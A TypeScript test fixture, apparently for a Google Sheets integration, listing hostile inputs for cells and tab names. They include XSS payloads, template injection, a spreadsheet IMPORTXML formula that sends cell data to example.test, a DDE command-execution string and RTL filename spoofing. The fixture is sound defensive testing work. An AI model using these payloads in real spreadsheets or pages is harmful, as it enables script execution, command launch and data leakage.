/** Sets a mark on the window if it is ever run as HTML or as a script. */
const run = 'window.attacked=true';

/** Attacks that must not harm the page: cells, notes and names contain these texts. */
export const hostileTexts: readonly string[] = [
  `<img src=x onerror="${run}">`,
  `<script>${run}</script>`,
  `"><svg onload=${run}>`,
  `</script><script>${run}</script><!--`,
  `javascript:${run}`,
  '{{constructor.constructor("window.attacked=true")()}}',
  '$&$1$`',
  '{0} {1}',
  '=IMPORTXML("http://example.test/?"&A1,"//a")',
  '=HYPERLINK("http://example.test","click")',
  '=1+1',
  '+1+2',
  '-2+3',
  '@SUM(1,2)',
  "+cmd|' /C calc'!A0",
  "'",
  "''",
  '"',
  `it's "quoted"`,
  'שלום עולם',
  '\u202Egnp.exe',
  'a\u200Bb\u200D\uFEFFc',
  '👩‍👩‍👧‍👦 ñ 𝒳',
  'TRUE',
  '1/2',
  '007',
  '#REF!',
  ' leading and trailing ',
];

/** As long as Google allows in a cell. */
export const longText = '<b>&'.repeat(12_500);

/** Names that a tab may have. */
export const hostileTabNames: readonly string[] = [
  `<img src=x onerror="${run}">`,
  "it's <b>",
  '=1+1',
  'A1',
  'R1C1',
  'TRUE',
  '"; DROP',
  'שלום \u202Egnp',
  '👩‍👩‍👧‍👦',
  '$&{0}',
  'toString',
  '__proto__',
];
